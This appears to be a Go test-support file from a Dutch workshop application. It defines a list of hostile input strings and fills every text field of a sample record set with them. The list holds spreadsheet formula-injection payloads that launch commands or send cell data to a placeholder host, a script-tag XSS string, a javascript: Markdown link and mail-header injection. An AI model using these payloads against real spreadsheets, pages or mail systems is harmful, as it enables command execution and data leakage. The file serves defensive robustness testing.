package ordeal

import (
	"fmt"
	"strings"

	"github.com/google/uuid"

	"samenspel/workshop"
	"samenspel/workshop/sample"
)

// Typed is the worst that people type, paste or forge: what a spreadsheet takes
// for a formula, what a browser or Markdown takes for markup, what ends a cell,
// a line or a mail's header, what a template takes for a place to fill in, and
// scripts that few fonts have.
var Typed = []string{
	`=cmd|'/c calc'!A1`,
	`+31 6 12345678`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`=HYPERLINK("http://example.invalid?x="&A1,"klik")`,
	`a"b'c,d;e|f`,
	"een\ntwee\r\ndrie",
	`<script>alert("x")</script>`,
	`<b>vet</b> & <i>schuin</i>`,
	`{nb} {{.party}} %s %d $HOME`,
	"| cel | **vet** _schuin_ `code`",
	`# kop [hier](javascript:alert(1)) ![x](http://example.invalid/x.png)`,
	"Bcc: iemand@example.invalid\r\nX-Erg: ja",
	`BEGIN:VEVENT;END:VCALENDAR\,\n`,
	`) Tj ET Q endobj \ ( [d] {e}`,
	"feest 🎉 👩🏽\u200d💻 🇳🇱",
	"gee\u0308valueerd in cafe\u0301",
	"שלום עולם", "مرحبا بالعالم", "नमस्ते", "中文 和 한국어",
	"z\u0335\u0321\u0322a\u0336\u0323l\u0337\u0324g\u0338\u0325o",
	strings.Repeat("Rijksdienst", 40),
	"0123", "1E5", "1-2-2026", "TRUE",
}

// typed is the sample, in which everything that can be typed is one of Typed.
func typed(lang workshop.Lang) ([]workshop.Record, uuid.UUID, error) {
	records, id, err := sample.Records(lang)
	if err != nil {
		return nil, uuid.Nil, err
	}
	w := from("typed", records)
	n := 0
	next := func() string { n++; return Typed[n%len(Typed)] }
	v := w.view()
	events := []workshop.Event{workshop.PartyChanged{Side: workshop.Vendor, Field: "name", Value: `=Noorder "licht", B.V. <i> {nb}`}}
	for _, side := range workshop.Sides {
		for _, field := range []string{"values", "goal", "leaderPromise"} {
			events = append(events, workshop.PartyChanged{Side: side, Field: field, Value: next()})
		}
	}
	for _, field := range []string{"product", "phase", "limits", "exit"} {
		events = append(events, workshop.ContextChanged{Field: field, Value: next()})
	}
	for i, p := range v.People {
		events = append(events,
			workshop.PersonChanged{Person: p.ID, Field: "name", Value: fmt.Sprintf("%s %d", next(), i)},
			workshop.PersonChanged{Person: p.ID, Field: "function", Value: next()},
		)
	}
	for _, c := range v.Cards {
		kind, _ := v.Method.CardKind(c.Kind)
		for _, f := range kind.Fields {
			if f.Type == workshop.FieldText && c.Fields[f.ID] != "" {
				events = append(events, workshop.CardChanged{Card: c.ID, Field: f.ID, Value: next()})
			}
		}
	}
	for _, a := range v.Actions {
		for _, f := range workshop.ActionFields {
			if f.Type == workshop.FieldText {
				events = append(events, workshop.ActionChanged{Action: a.ID, Field: f.ID, Value: next()})
			}
		}
	}
	w.forge(events...)
	return w.log.Records(), id, w.err
}
